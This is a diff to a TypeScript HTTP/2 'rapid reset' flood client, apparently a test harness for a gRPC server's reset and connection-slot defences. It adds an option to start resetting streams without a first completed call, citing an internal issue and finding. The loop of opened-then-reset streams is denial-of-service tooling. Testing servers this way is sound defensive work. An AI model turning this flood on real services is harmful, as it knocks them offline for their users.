@@ -163,6 +163,11 @@ export interface RapidResetOptions {
   readonly headers?: Readonly<Record<string, string>>;
   /** Reset each call after its HEADERS, before its message is sent (issue 26, finding 6). */
   readonly resetBeforeMessage?: boolean;
+  /**
+   * Reset from the start, with no whole call first: the connection stays unproven, and shares
+   * what is left of its peer's allowance after a flood (a proven one gets its own).
+   */
+  readonly noFirstCall?: boolean;
 }
 
 export interface RapidResetResult {
@@ -177,12 +182,10 @@ export interface RapidResetResult {
 }
 
 /**
- * One whole call, answered, then the SETTINGS that follow it: a connection starts with 10 calls
- * at once and gets GRPC_MAX_CONCURRENT_STREAMS once a call has finished (issue 26), so an
- * attacker makes one first. Bounded: 5 s.
+ * One whole call, answered: the connection is proven (a client, not a slot holder), which the
+ * server's connection slots and reset allowance tell apart (issue 26). Bounded: 5 s.
  */
 async function firstCall(session: http2.ClientHttp2Session, message: Buffer): Promise<void> {
-  const raised = new Promise<void>((resolve) => session.once('remoteSettings', () => resolve()));
   const answered = new Promise<void>((resolve) => {
     const stream = session.request(HEADERS);
     stream.on('error', () => resolve());
@@ -190,7 +193,7 @@ async function firstCall(session: http2.ClientHttp2Session, message: Buffer): Pr
     stream.resume();
     stream.end(message);
   });
-  await Promise.race([answered.then(() => raised), sleep(5000)]);
+  await Promise.race([answered, sleep(5000)]);
 }
 
 /**
@@ -211,7 +214,7 @@ export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult
   session.once('close', () => (result.closedByServer = true));
   const message = Buffer.concat([messagePrefix(o.request.length), o.request]);
   const headers = { ...HEADERS, ...o.headers };
-  await firstCall(session, message);
+  if (!o.noFirstCall) await firstCall(session, message);
   const until = Date.now() + o.timeoutMs;
   for (let i = 0; i < o.calls && !result.closedByServer && !session.destroyed && Date.now() < until; i++) {
     let stream: http2.ClientHttp2Stream;
